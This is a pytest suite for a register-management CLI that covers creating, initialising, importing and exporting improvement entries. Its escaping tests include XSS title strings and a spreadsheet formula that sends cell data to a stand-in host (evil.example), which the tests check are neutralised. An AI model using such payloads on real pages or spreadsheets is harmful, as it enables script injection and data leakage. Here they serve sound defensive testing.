"""The contributor's workflow as a user meets it: csi new in a register, csi init of a
new one that validates and builds at once, csi import of a spreadsheet register, and
csi export with computed health."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
import yaml

from csitools import __version__
from csitools.cli import contribute
from csitools.contribute.entries import write_entries
from csitools.contribute.rows import first_sentence, header_key, parse_date
from csitools.files import Conflict, write_new
from csitools.validation import validate_repository
from tests.conftest import BASE, REPO, csi

FIXTURES = Path(__file__).parent / "fixtures"
ITIL = FIXTURES / "itil-register.csv"
MALFORMED = FIXTURES / "itil-register-malformed.csv"
BASE_NAMES = ["CSI-0001-email-resolution.yaml", "CSI-0002-knowledge-base.yaml", "people.yaml"]
URL = "https://csitools.dev/schemas/improvement.schema.json"
FLAGS = [
    "--title", "Self-service password reset",
    "--summary", "Password resets are 18% of contacts.",
    "--source", "incident-trend",
    "--owner", "bob",
    "--raised-by", "alice",
    "--service", "Service Desk",
    "--service", "Identity",
    "--term", "short",
    "--size", "small",
    "--impact", "4", "--urgency", "3", "--effort", "2", "--risk", "2",
    "--raised-on", "2026-02-01",
]  # fmt: skip


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(BASE, root)
    monkeypatch.chdir(root)
    monkeypatch.setenv("NO_MKDOCS_2_WARNING", "1")
    return root


def names(root: Path) -> list[str]:
    return sorted(p.name for p in (root / "register").iterdir())


# --- csi new -----------------------------------------------------------------------


def test_new_writes_the_next_entry_and_it_validates(repo: Path) -> None:
    result = csi("new", *FLAGS)
    assert result.exit_code == 0, result.output
    assert result.stdout == "register/CSI-0003-self-service-password-reset.yaml\n"
    assert result.stderr == (
        "created CSI-0003: fill in what applies (optional fields are commented), "
        "run csi validate, then open a pull request\n"
    )
    text = (repo / "register/CSI-0003-self-service-password-reset.yaml").read_text()
    assert text.startswith(
        f"# yaml-language-server: $schema={URL}\n"
        "id: CSI-0003\n"
        "title: Self-service password reset\n"
        "summary: Password resets are 18% of contacts.\n"
        "services: [Service Desk, Identity]\n"
        "source: incident-trend\n"
        "raised_by: alice\n"
        'raised_on: "2026-02-01"\n'
        "owner: bob\n"
        "status: proposed\n"
        "term: short\n"
        "size: small\n"
        "priority: {impact: 4, urgency: 3, effort: 2, risk: 2}\n"
        "\n"
        "# Optional fields: uncomment what applies. Your editor explains each one.\n"
        "# (benefits) The benefits the improvement is expected to bring.\n"
        "# benefits:\n"
    )
    assert "# (cycles) The turns of the ITIL continual improvement model" in text
    assert validate_repository(repo).problems == ()
    assert csi("new", *FLAGS).stdout == "register/CSI-0004-self-service-password-reset.yaml\n"


def test_new_takes_today_and_the_number_after_the_highest(repo: Path) -> None:
    shutil.copyfile(
        repo / "register/CSI-0002-knowledge-base.yaml", repo / "register/CSI-0041-old.yaml"
    )
    flags = FLAGS[: FLAGS.index("--raised-on")]
    result = csi("new", *flags[:1], "Qualité du café à l'accueil: 2e étage!", *flags[2:])
    assert result.stdout == "register/CSI-0042-qualite-du-cafe-a-l-accueil-2e-etage.yaml\n"
    text = (repo / "register/CSI-0042-qualite-du-cafe-a-l-accueil-2e-etage.yaml").read_text()
    assert 'title: "Qualité du café à l\'accueil: 2e étage!"\n' in text
    assert f'raised_on: "{date.today().isoformat()}"\n' in text


def test_new_asks_for_what_is_missing_on_a_terminal(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(contribute, "_interactive", lambda: True)
    answers = ["Knowledge-centred service", "Agents search three wikis.", "staff-suggestion"]
    answers += ["nobody", "bob", "", "medium", "large", "4", "3", "9", "3", "2", ""]
    result = csi("new", input="\n".join(answers) + "\n")
    assert result.exit_code == 0, result.output
    assert "Error: 'nobody' is not in register/people.yaml" in result.output
    assert "Error: 9 is not in the range 1<=x<=5." in result.output
    text = (repo / "register/CSI-0003-knowledge-centred-service.yaml").read_text()
    assert "raised_by: bob\nraised_on:" in text  # the owner, offered as the default
    assert "priority: {impact: 4, urgency: 3, effort: 3, risk: 2}\n" in text
    assert validate_repository(repo).problems == ()


def test_new_in_a_script_names_every_missing_option(repo: Path) -> None:
    result = csi("new", "--title", "Self-service password reset")
    assert result.exit_code == 2
    assert result.output == (
        "Usage: csi new [OPTIONS]\n"
        "Try 'csi new --help' for help.\n\n"
        "Error: missing --summary, --source, --owner, --raised-by, --term, --size, --impact, "
        "--urgency, --effort, --risk; give them as options, or run csi new on a terminal "
        "to be asked\n"
    )
    assert names(repo) == BASE_NAMES


def test_new_refuses_an_unknown_person_before_writing(repo: Path) -> None:
    flags = [*FLAGS]
    flags[flags.index("bob")] = "bbo"
    result = csi("new", *flags)
    assert result.exit_code == 2
    assert result.output.endswith(
        "Error: Invalid value for --owner: 'bbo' is not in register/people.yaml "
        "(did you mean 'bob'?); give a person id, or add the person there first\n"
    )
    assert names(repo) == BASE_NAMES


def test_new_never_overwrites_and_writes_nothing_invalid(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    existing = repo / "register/CSI-0002-knowledge-base.yaml"
    before = existing.read_bytes()
    monkeypatch.setattr(contribute, "next_ids", lambda root: ["CSI-0002"])
    flags = [*FLAGS]
    flags[1] = "Knowledge base"
    result = csi("new", *flags)
    assert result.exit_code == 1
    assert result.output == (
        "register/CSI-0002-knowledge-base.yaml:2: $.id: id CSI-0002 is already used by "
        "register/CSI-0002-knowledge-base.yaml; take the next free id\n"
        "Error: nothing written: the entry would not validate\n"
    )
    assert existing.read_bytes() == before
    with pytest.raises(FileExistsError):
        write_new(existing, "id: CSI-0002\n")
    assert existing.read_bytes() == before
    assert not [p for p in (repo / "register").iterdir() if p.name.startswith(".")]


def test_writing_entries_is_all_or_none(repo: Path) -> None:
    # Another contributor's CSI-0004 lands while we write CSI-0003 and CSI-0004.
    (repo / "register/CSI-0004-theirs.yaml").write_text("id: CSI-0004\n")
    with pytest.raises(Conflict, match="another file took CSI-0004 meanwhile"):
        write_entries(repo, {"register/CSI-0003-a.yaml": "a\n", "register/CSI-0004-b.yaml": "b\n"})
    assert names(repo)[2:] == ["CSI-0004-theirs.yaml", "people.yaml"]
    assert (repo / "register/CSI-0004-theirs.yaml").read_text() == "id: CSI-0004\n"


def test_past_csi_9999_new_and_import_take_the_lowest_free_ids(repo: Path) -> None:
    (repo / "register/CSI-9999-last.yaml").touch()
    result = csi("new", *FLAGS)
    assert result.exit_code == 0, result.output
    assert result.stdout == "register/CSI-0003-self-service-password-reset.yaml\n"
    (repo / "cir.csv").write_text(
        "Description,Raised by,Date raised\nOne,alice,2026-01-05\nTwo,bob,2026-01-06\n"
    )
    result = csi("import", "cir.csv")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[-1] == "imported 2 rows as CSI-0004 to CSI-0005"


@pytest.mark.slow
def test_new_and_import_say_when_no_id_is_free(repo: Path) -> None:
    for n in range(3, 9999):
        (repo / f"register/CSI-{n:04d}").touch()
    (repo / "cir.csv").write_text(
        "Description,Raised by,Date raised\nOne,alice,2026-01-05\nTwo,bob,2026-01-06\n"
    )
    result = csi("import", "cir.csv")
    assert (result.exit_code, result.output) == (
        1,
        "Error: nothing written: only 1 of the ids CSI-0001 to CSI-9999 are free and 2 are "
        "needed; import fewer rows\n",
    )
    (repo / "register/CSI-9999").touch()
    result = csi("new", *FLAGS)
    assert (result.exit_code, result.output) == (
        1,
        "Error: nothing written: no id is free: CSI-0001 to CSI-9999 are all taken\n",
    )
    assert not list((repo / "register").glob("*.yaml"))[3:]


# --- csi init ----------------------------------------------------------------------


@pytest.mark.slow
def test_init_makes_a_register_that_validates_and_builds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NO_MKDOCS_2_WARNING", "1")
    result = csi("init", "cir", "--title", "Example Org: Improvement Register")
    assert result.exit_code == 0, result.output
    assert result.output == (
        "wrote 31 files into cir/\n"
        "next: put yourself in register/people.yaml, set site_config/register.yml, then\n"
        "  cd cir && csi validate && csi build\n"
        "to post each owner's digest on a tracking issue every Monday, set the repository "
        "variable CSI_DIGEST_ISSUE to its number (see .github/workflows/digest.yml)\n"
    )
    root = tmp_path / "cir"
    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
    assert files == [
        ".github/ISSUE_TEMPLATE/improvement.yml",
        ".github/PULL_REQUEST_TEMPLATE.md",
        ".github/workflows/ci.yml",
        ".github/workflows/digest.yml",
        ".github/workflows/pages.yml",
        ".gitignore",
        ".pre-commit-config.yaml",
        ".schemas/assessment.schema.json",
        ".schemas/csfs.schema.json",
        ".schemas/improvement.schema.json",
        ".schemas/kpi.schema.json",
        ".schemas/people.schema.json",
        ".schemas/review.schema.json",
        ".schemas/services.schema.json",
        ".schemas/settings.schema.json",
        ".schemas/swot.schema.json",
        "README.md",
        "assessments/README.md",
        "kpis/README.md",
        "mkdocs.yml",
        "register/csfs.yaml",
        "register/people.yaml",
        "register/services.yaml",
        "requirements.txt",
        "site_config/docs/contributing.md",
        "site_config/docs/glossary.md",
        "site_config/docs/reference/cli.md",
        "site_config/docs/reference/fields.md",
        "site_config/overrides/.gitkeep",
        "site_config/register.yml",
        "swot/README.md",
    ]
    assert validate_repository(root).problems == ()
    config = yaml.safe_load((root / "mkdocs.yml").read_text())
    assert config["site_name"] == "Example Org: Improvement Register"
    assert config["plugins"] == ["search", "csi"]
    ours = yaml.safe_load((REPO / "mkdocs.yml").read_text())
    assert config["markdown_extensions"] == ours["markdown_extensions"]
    assert "csitools[pdf]==" + __version__ in (root / "requirements.txt").read_text()
    assert (root / ".gitignore").read_text().splitlines()[1:3] == ["site/", ".cache/"]

    monkeypatch.chdir(root)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    result = csi("build", "--as-of", "2026-05-15")
    assert result.exit_code == 0, result.output
    assert result.output.startswith("Built ")
    for page in ("index.html", "register/index.html", "reference/fields/index.html"):
        assert (root / "site" / page).is_file(), page
    # The empty catalogue and CSF list are pages that say how to begin.
    assert "add services to register/services.yaml" in (
        root / "site" / "services" / "index.html"
    ).read_text(encoding="utf-8")
    assert (root / "site" / "csfs" / "index.html").is_file()

    result = csi("new", *[f.replace("alice", "you").replace("bob", "you") for f in FLAGS])
    assert result.exit_code == 0, result.output
    entry = (root / "register/CSI-0001-self-service-password-reset.yaml").read_text()
    assert entry.splitlines()[0] == (
        "# yaml-language-server: $schema=../.schemas/improvement.schema.json"
    )
    assert validate_repository(root).problems == ()


def test_init_refuses_a_folder_in_use_and_force_never_overwrites(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "cir").mkdir()
    (tmp_path / "cir" / "README.md").write_text("ours\n")
    result = csi("init", "cir")
    assert result.exit_code == 1
    assert result.output == (
        "Error: cir is not empty; use --force to add the missing files "
        "(existing files are never overwritten)\n"
    )
    assert os.listdir(tmp_path / "cir") == ["README.md"]
    result = csi("init", "cir", "--force")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[:3] == [
        "wrote 30 files into cir/",
        "skipped 1 that exist already (left as they were):",
        "  README.md",
    ]
    assert (tmp_path / "cir" / "README.md").read_text() == "ours\n"


def test_init_accepts_a_fresh_git_repository(tmp_path: Path) -> None:
    (tmp_path / "cir" / ".git").mkdir(parents=True)
    result = csi("init", str(tmp_path / "cir"))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "cir" / "register" / "people.yaml").is_file()


def test_init_below_a_file_is_refused_not_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "f").write_text("x\n")
    result = csi("init", "f/sub")
    assert result.exit_code == 2
    assert result.output.endswith("Error: f is a file, not a folder; choose another DIRECTORY\n")
    assert os.listdir(tmp_path) == ["f"]


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs Linux's /proc")
def test_init_where_no_folder_can_be_made() -> None:
    result = csi("init", "/proc/newreg")
    assert result.exit_code == 2
    assert result.output.endswith(
        "Error: cannot create the folder /proc/newreg: No such file or directory; "
        "choose another DIRECTORY\n"
    )


@pytest.mark.parametrize(
    "title",
    [
        "<img src=x onerror=document.title='x'>",
        "\x3cscript\x3edocument.title='x'\x3c/script\x3e",
        'A & B "quoted" ends with a backslash\\',
        "@version@ and @title_yaml@: a # b",
        "&lt;b&gt; already an entity",
    ],
)
def test_init_writes_the_title_as_data_and_inert_html(tmp_path: Path, title: str) -> None:
    import html

    import yaml

    from csitools.publish.markdown import cell

    result = csi("init", str(tmp_path / "cir"), "--title", title)
    assert result.exit_code == 0, result.output
    root = tmp_path / "cir"
    config = yaml.safe_load((root / "mkdocs.yml").read_text(encoding="utf-8"))
    assert "<" not in config["site_name"] and '"' not in config["site_name"]
    assert html.unescape(config["site_name"]) == title  # escaped once, for the theme
    settings = yaml.safe_load((root / "site_config" / "register.yml").read_text("utf-8"))
    assert settings["title"] == title  # data: the site escapes it where it shows it
    readme = (root / "README.md").read_text(encoding="utf-8").splitlines()[0]
    assert readme == f"# {cell(title)}"  # inert Markdown, placeholders in it left alone


@pytest.mark.parametrize("title", ["", "   "])
def test_init_refuses_an_empty_title(tmp_path: Path, title: str) -> None:
    result = csi("init", str(tmp_path / "cir"), "--title", title)
    assert result.exit_code == 2
    assert result.output.endswith(
        "Error: Invalid value for '--title': the title is empty; give the register a name, "
        "such as 'Example Org CIR'\n"
    )
    assert not (tmp_path / "cir").exists()


# --- csi import --------------------------------------------------------------------


def test_import_of_the_itil_register_example(repo: Path) -> None:
    shutil.copyfile(ITIL, repo / "cir.csv")
    dry = csi("import", "cir.csv", "--dry-run")
    assert dry.exit_code == 0, dry.output
    expected = (FIXTURES / "itil-register.dry-run.txt").read_text(encoding="utf-8")
    assert dry.output == expected.replace("@URL@", URL)
    assert names(repo) == BASE_NAMES  # a dry run writes nothing

    result = csi("import", "cir.csv")
    assert result.exit_code == 0, result.output
    assert result.output == (
        "register/CSI-0003-publish-a-known-error-article-for-the-monthly-vpn.yaml\n"
        "register/CSI-0004-automate-new-starter-account-provisioning-from.yaml\n"
        "register/CSI-0005-consolidate-the-three-service-desk-tools-into-one.yaml\n"
        "register/CSI-0006-send-the-business-a-weekly-summary-of-major.yaml\n"
        "imported 4 rows as CSI-0003 to CSI-0006\n"
        "add these people to register/people.yaml (check the ids and names):\n"
        "  - {id: jane.oneill, name: Jane O'Neill}\n"
    )
    for rel in result.output.splitlines()[:4]:
        written = (repo / rel).read_text(encoding="utf-8")
        assert written in expected.replace("@URL@", URL)
    problems = [str(p) for p in validate_repository(repo).problems]
    assert problems == [
        "register/CSI-0006-send-the-business-a-weekly-summary-of-major.yaml:13: $.raised_by: "
        "'jane.oneill' is not in register/people.yaml; add them there or fix the id",
        "register/CSI-0006-send-the-business-a-weekly-summary-of-major.yaml:15: $.owner: "
        "'jane.oneill' is not in register/people.yaml; add them there or fix the id",
    ]
    people = repo / "register/people.yaml"
    people.write_text(
        people.read_text().replace("teams:", "  - {id: jane.oneill, name: Jane O'Neill}\nteams:")
    )
    assert validate_repository(repo).problems == ()


def test_import_reads_an_excel_export_the_same(repo: Path) -> None:
    # Excel writes a byte-order mark and CRLF, also inside quoted multi-line cells.
    text = ITIL.read_text(encoding="utf-8").replace("\n", "\r\n")
    (repo / "cir.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    result = csi("import", "cir.csv", "--dry-run")
    assert result.exit_code == 0, result.output
    expected = (FIXTURES / "itil-register.dry-run.txt").read_text(encoding="utf-8")
    assert result.output == expected.replace("@URL@", URL)


def test_import_writes_nothing_unless_every_row_converts(repo: Path) -> None:
    result = csi("import", str(MALFORMED))
    assert result.exit_code == 1
    where = os.path.relpath(MALFORMED)
    assert result.output == (
        f"{where}:3: column 'Date raised': '31/02/2026' is not a date; write YYYY-MM-DD, "
        "dd/mm/yyyy or 5 Jan 2026\n"
        f"{where}:4: column 'Size (small, medium, large)': 'Huge' is not one of: small, "
        "medium, large\n"
        f"{where}:5: column 'Description': is empty; every improvement needs a description\n"
        f"{where}:7: column 'Date required by': 'next week' is not a date; write YYYY-MM-DD, "
        "dd/mm/yyyy or 5 Jan 2026\n"
        f"{where}:7: column 'Timescale (short, medium, long-term)': 'Soon' is not one of: "
        "short, medium, long\n"
        f"{where}:7: column 'Priority (high, medium, low)': 'ASAP' is not high, medium, low "
        "or 1 to 5\n"
        f"{where}:9: column 'Raised by': is empty; name who raised the opportunity\n"
        "Error: nothing written: 5 rows of itil-register-malformed.csv cannot be imported; "
        "fix them (or use --map) and import again\n"
    )
    assert names(repo) == BASE_NAMES


def test_import_maps_other_columns(repo: Path) -> None:
    (repo / "ideas.csv").write_text(
        "Ref;Idea;Logged;Who;Status;Service;Cost centre;Notes\n"
        "A-7;Retire the fax gateway.;2026-03-02;Carol Osei;On hold;Telephony, Print;CC-12;\n",
        encoding="utf-8-sig",
    )
    flags = ["--map", "idea=description", "--map", "LOGGED=raised-on", "--map", "Who=raised_by"]
    result = csi("import", "ideas.csv", *flags, "--map", "Notes=ignore", "--dry-run")
    assert result.exit_code == 0, result.output
    assert result.output == (
        "note: column 'Cost centre' has no field; it is kept in the summary text\n"
        "--- register/CSI-0003-retire-the-fax-gateway.yaml\n"
        f"# yaml-language-server: $schema={URL}\n"
        "# Imported from ideas.csv, line 2.\n"
        "# Opportunity no. A-7 in the spreadsheet register.\n"
        '# Check the fields marked "imported: check", then remove these notes.\n'
        "id: CSI-0003\n"
        "title: Retire the fax gateway\n"
        "summary: |\n"
        "  Retire the fax gateway.\n"
        "\n"
        "  Cost centre: CC-12\n"
        "services: [Telephony, Print]\n"
        "source: other  # imported: check\n"
        "raised_by: carol\n"
        'raised_on: "2026-03-02"\n'
        "owner: carol  # imported: check (no owner given: the raiser for now)\n"
        "status: deferred\n"
        "term: medium  # imported: check\n"
        "size: medium  # imported: check\n"
        "priority: {impact: 3, urgency: 3, effort: 3, risk: 3}  # imported: check\n"
        "would import 1 row as CSI-0003\n"
    )


def test_import_names_a_header_it_cannot_use(repo: Path) -> None:
    (repo / "x.csv").write_text("Idea,When\nRetire the fax gateway,2026-03-02\n")
    result = csi("import", "x.csv", "--map", "Nope=ignore")
    assert result.exit_code == 1
    assert result.output == (
        "x.csv:1: $: --map names a column 'nope' the file lacks\n"
        "x.csv:1: $: no Description (the improvement's text) column; name a column so, "
        "or use --map 'COLUMN=description'\n"
        "x.csv:1: $: no Raised by column; name a column so, or use --map 'COLUMN=raised_by'\n"
        "x.csv:1: $: no Date raised column; name a column so, or use --map 'COLUMN=raised_on'\n"
        "Error: nothing written: 1 row of x.csv cannot be imported; fix them (or use --map) "
        "and import again\n"
    )
    result = csi("import", "x.csv", "--map", "Idea=headline")
    assert result.exit_code == 2
    assert result.output.endswith(
        "Error: --map 'Idea=headline': FIELD is one of ref, title, description, raised_on, "
        "size, term, priority, impact, urgency, effort, risk, kpi, benefits, raised_by, owner, "
        "required_by, services, status, source, summary, ignore\n"
    )


@pytest.mark.parametrize(
    ("cell", "summary"),
    [
        ('"Fix the ""VPN"" issue"', 'summary: Fix the "VPN" issue'),
        ('"He said ""hi"", then left"', 'summary: He said "hi", then left'),
    ],
)
def test_import_reads_doubled_quotes_as_excel_writes_them(
    repo: Path, cell: str, summary: str
) -> None:
    (repo / "q.csv").write_text(f"Description,Raised by,Date raised\n{cell},alice,2026-01-05\n")
    result = csi("import", "q.csv", "--dry-run")
    assert result.exit_code == 0, result.output
    assert summary in result.output.splitlines()


@pytest.mark.parametrize("separator", [";", "\t"])
def test_import_finds_a_semicolon_or_tab_separator(repo: Path, separator: str) -> None:
    # Headers such as "Size (small, medium, large)" and cells with commas stay unquoted.
    rows = list(csv.reader(io.StringIO(ITIL.read_text(encoding="utf-8"))))
    out = io.StringIO()
    csv.writer(out, delimiter=separator, lineterminator="\n").writerows(rows)
    assert "Size (small, medium, large)" + separator in out.getvalue()
    (repo / "cir.csv").write_text(out.getvalue(), encoding="utf-8")
    result = csi("import", "cir.csv", "--dry-run")
    assert result.exit_code == 0, result.output
    expected = (FIXTURES / "itil-register.dry-run.txt").read_text(encoding="utf-8")
    assert result.output == expected.replace("@URL@", URL)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            "Description;Raised by;Date raised\n"
            "Retire the fax gateway;alice;2026-01-05\n"
            "Fix the VPN; then the proxy;bob;2026-01-06\n",
            "x.csv:3: $: 4 cells but 3 columns; the file seems to use ';' as separator, "
            "so put a cell that holds ';' in double quotes",
        ),
        (
            "Description,Raised by,Date raised\n"
            '"Two\nlines",alice,2026-01-05\n'
            'Retire the fax gateway,alice,"2026-01-05\n'
            "Fix the VPN,bob,2026-01-06\n",
            'x.csv:4: $: unterminated quote starting on line 4: end the quoted cell with ", '
            'and write a quote inside a cell twice ("")',
        ),
    ],
)
def test_import_names_a_stray_separator_and_an_unterminated_quote(
    repo: Path, text: str, problem: str
) -> None:
    (repo / "x.csv").write_text(text)
    result = csi("import", "x.csv")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == problem
    assert names(repo) == BASE_NAMES


@pytest.mark.slow
def test_import_of_a_large_file_reads_past_a_quote_another_separator_opens(repo: Path) -> None:
    """Read with ',', the ', "' of row 1 opens a quote that runs to the end of this 140 KB
    file, past csv's 128 KB cell limit: the ';' reading still wins, and a real
    unterminated quote in a large file is named with its line."""
    rows = ["Description;Raised by;Date raised", 'Replace screens, "27 inch ones;alice;2026-01-05']
    rows += [f"Row {i} text;bob;2026-01-06" for i in range(5000)]
    (repo / "big.csv").write_text("\n".join(rows) + "\n")
    result = csi("import", "big.csv", "--dry-run")
    assert result.exit_code == 0, result.output[-500:]
    assert "would import 5001 rows as CSI-0003 to CSI-5003" in result.output
    assert 'title: Replace screens, "27 inch ones' in result.output
    text = "Description,Raised by,Date raised\n" + 'Open,alice,"2026-01-05\n' + "x,y,z\n" * 40000
    (repo / "open.csv").write_text(text)
    result = csi("import", "open.csv")
    assert result.exit_code == 1
    assert result.output.splitlines()[0].startswith("open.csv:2: $: unterminated quote starting")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-01-05", "2026-01-05"),
        ("05/01/2026", "2026-01-05"),
        ("5 Jan 2026", "2026-01-05"),
        ("5th January 2026", "2026-01-05"),
        ("05-Jan-2026", "2026-01-05"),
        ("2026-01-05 00:00:00", "2026-01-05"),
        ("31/02/2026", None),
        ("soon", None),
    ],
)
def test_dates_in_common_formats(text: str, expected: str | None) -> None:
    parsed = parse_date(text)
    assert (parsed.isoformat() if parsed else None) == expected


def test_titles_and_headers() -> None:
    assert first_sentence("Fix VPN. Users call monthly.") == "Fix VPN"
    long = "word " * 40
    assert first_sentence(long) == ("word " * 23).strip() + "…"
    assert len(first_sentence(long)) <= 120
    assert header_key("Timescale (short, medium, long-term)") == "timescale"
    assert header_key("  Opportunity No. ") == "opportunityno"


# --- csi export --------------------------------------------------------------------


def test_export_json_matches_csi_status(repo: Path) -> None:
    exported = json.loads(csi("export", "--format", "json", "--as-of", "2026-05-15").stdout)
    status = json.loads(csi("status", "--format", "json", "--as-of", "2026-05-15").stdout)
    assert exported["as_of"] == status["as_of"] == "2026-05-15"
    pairs = [(i["id"], i["computed"]["health"]) for i in exported["improvements"]]
    assert pairs == [(s["id"], s["health"]) for s in status["improvements"]]
    assert pairs == [("CSI-0001", "on-track"), ("CSI-0002", None)]
    first = exported["improvements"][0]
    assert first["computed"]["targets"] == status["improvements"][0]["targets"]
    assert first["computed"]["value"] == status["improvements"][0]["value"]
    assert first["computed"]["value"]["roi_expected"] == 1.5
    assert first["raci"][0]["accountable"] == "carol"  # the entry as written
    assert [k["id"] for k in exported["kpis"]] == ["email-resolution-time", "email-satisfaction"]


def test_export_csv_neutralises_formulas(repo: Path) -> None:
    entry = repo / "register/CSI-0002-knowledge-base.yaml"
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    entry.write_text(
        entry.read_text()
        .replace("title: Knowledge base for the service desk", f"title: {json.dumps(payload)}")
        .replace("summary: Agents search three wikis for answers.", 'summary: "@SUM(1+1)"')
    )
    result = csi("export", "--as-of", "2026-02-15")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[1]["title"] == "'" + payload
    assert rows[1]["summary"] == "'@SUM(1+1)"
    assert rows[0]["title"] == "Faster resolution of email incidents"
    assert result.stdout.splitlines()[0] == (
        "id,title,status,health,score,lane,expected_annual,realised_annual,running_annual,"
        "roi_expected,roi_realised,payback_months_expected,payback_months_realised,"
        "realised_from,source,services,raised_by,raised_on,owner,term,size,impact,urgency,"
        "effort,risk,cycle,next_due,flags,benefits,csf,depends_on,summary"
    )
    # The value figures: 50,000 USD a year against 20,000 USD one-off; nothing realised.
    assert [rows[0][k] for k in ("expected_annual", "roi_expected", "realised_annual")] == [
        "50000.0",
        "1.5",
        "",
    ]


def test_export_to_a_file(repo: Path) -> None:
    result = csi("export", "--format", "json", "--out", "register.json")
    assert result.exit_code == 0, result.output
    assert result.stderr == "wrote 2 improvements to register.json\n"
    assert json.loads((repo / "register.json").read_text())["title"].startswith("Example Org")


@pytest.mark.parametrize(
    ("out", "message"),
    [
        ("link.csv", "link.csv is a symbolic link, not a regular file; give a file's path, "
         "or leave out --out to write to standard output"),
        ("pipe", "pipe is a named pipe, not a regular file; give a file's path, "
         "or leave out --out to write to standard output"),
        ("register/CSI-0001-email-resolution.yaml", "register/CSI-0001-email-resolution.yaml "
         "is inside register/, which holds the register's own files; write the export "
         "outside register/, kpis/, reviews/, site_config/, assessments/, swot/, .git/, "
         ".cache/"),
        ("register/../kpis/x.csv", "register/../kpis/x.csv is inside kpis/, which holds the "
         "register's own files; write the export outside register/, kpis/, reviews/, "
         "site_config/, assessments/, swot/, .git/, .cache/"),
        ("register/people.yaml/x.csv", "register/people.yaml is a file, not a folder; choose "
         "another path"),
        ("no/such/x.csv", "the folder no/such does not exist; create it or choose another path"),
        (".git/config", ".git/config is inside .git/, which holds the register's own files; "
         "write the export outside register/, kpis/, reviews/, site_config/, assessments/, "
         "swot/, .git/, .cache/"),
    ],
)  # fmt: skip
def test_export_refuses_an_out_it_must_not_replace(
    repo: Path, tmp_path: Path, out: str, message: str
) -> None:
    (tmp_path / "theirs.csv").write_text("theirs\n")
    (repo / "link.csv").symlink_to(tmp_path / "theirs.csv")
    os.mkfifo(repo / "pipe")
    (repo / ".git").mkdir(exist_ok=True)
    (repo / ".git" / "config").write_text("[core]\n")
    before = {p: p.read_bytes() for p in (repo / "register").iterdir()}
    result = csi("export", "--out", out)
    assert result.exit_code == 2
    assert result.output.endswith(f"Error: Invalid value for '--out': {message}\n")
    assert (repo / "link.csv").is_symlink() and (repo / "pipe").is_fifo()
    assert (tmp_path / "theirs.csv").read_text() == "theirs\n"
    assert {p: p.read_bytes() for p in (repo / "register").iterdir()} == before
    assert not (repo / "kpis/x.csv").exists()
    assert (repo / ".git" / "config").read_text() == "[core]\n"


@pytest.mark.parametrize("out", ["mkdocs.yml", "README.md", "docs/notes.csv"])
def test_export_never_replaces_a_file_git_tracks_unless_force(repo: Path, out: str) -> None:
    (repo / "docs").mkdir()
    for name in ("mkdocs.yml", "README.md", "docs/notes.csv"):
        (repo / name).write_text(f"{name}, mine\n")
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    subprocess.run(["git", "add", "mkdocs.yml", "README.md", "docs"], cwd=repo, check=True)
    result = csi("export", "--out", out)
    assert result.exit_code == 2
    assert result.output.endswith(
        f"Error: Invalid value for '--out': git tracks {out}, and the export would replace it "
        "whole; choose another path, or pass --force to replace it\n"
    )
    assert (repo / out).read_text() == f"{out}, mine\n"
    assert csi("export", "--out", "untracked.csv").exit_code == 0  # not tracked: written
    forced = csi("export", "--out", out, "--force")
    assert forced.exit_code == 0, forced.output
    assert (repo / out).read_text().startswith("id,")


@pytest.mark.skipif(not Path("/dev/stdout").is_symlink(), reason="needs /dev/stdout")
def test_export_to_dev_stdout_is_refused_for_plain_stdout(repo: Path) -> None:
    result = csi("export", "--out", "/dev/stdout")
    assert result.exit_code == 2
    assert result.output.endswith(
        "/dev/stdout is a symbolic link, not a regular file; give a file's path, "
        "or leave out --out to write to standard output\n"
    )


@pytest.fixture
def umask() -> Iterator[int]:
    old = os.umask(0o022)
    yield 0o022
    os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_written_files_follow_the_umask_and_keep_their_mode(
    repo: Path, tmp_path: Path, umask: int
) -> None:
    assert csi("new", *FLAGS).exit_code == 0
    assert mode(repo / "register/CSI-0003-self-service-password-reset.yaml") == 0o644
    shutil.copyfile(ITIL, repo / "cir.csv")
    assert csi("import", "cir.csv").exit_code == 0
    imported = list((repo / "register").glob("CSI-*.yaml"))
    assert len(imported) == 7
    assert {mode(p) for p in imported} == {0o644}
    assert csi("export", "--out", "register.csv").exit_code == 0
    assert mode(repo / "register.csv") == 0o644
    (repo / "register.csv").chmod(0o640)
    assert csi("export", "--out", "register.csv").exit_code == 0
    assert mode(repo / "register.csv") == 0o640
    assert csi("init", str(tmp_path / "cir")).exit_code == 0
    written = [p for p in (tmp_path / "cir").rglob("*") if p.is_file()]
    assert len(written) == 31
    assert {mode(p) for p in written} == {0o644}
